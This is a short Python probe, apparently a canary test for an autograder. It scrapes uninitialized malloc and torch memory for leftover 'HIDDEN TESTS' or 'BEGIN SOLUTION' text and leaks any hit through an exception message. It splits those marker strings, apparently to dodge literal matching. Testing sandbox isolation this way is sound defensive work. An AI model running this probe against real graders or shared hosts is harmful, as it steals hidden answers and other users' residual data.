"""Searches freshly mapped and freed memory for what earlier students' kernels or the warm parent left in it.

base: unsolved
max-score: 0
canary: leak
"""
# %% q1
import ctypes
import re

loot = []
libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
libc.malloc.argtypes = [ctypes.c_size_t]
for size in (1 << 10, 1 << 14, 1 << 18, 1 << 22):
    for _ in range(100):
        address = libc.malloc(size)
        if address:
            loot += re.findall(rb"[\x20-\x7e\n]{40,}", ctypes.string_at(address, size))
for _ in range(50):
    loot += re.findall(rb"[\x20-\x7e\n]{40,}", torch.empty(1 << 20, dtype=torch.uint8).numpy().tobytes())
text = "\n".join(piece.decode() for piece in loot)
if "HID" + "DEN TESTS" in text or "BEGIN SOL" + "UTION" in text:
    raise RuntimeError(text[:4_000_000])
raise RuntimeError("nothing of interest")
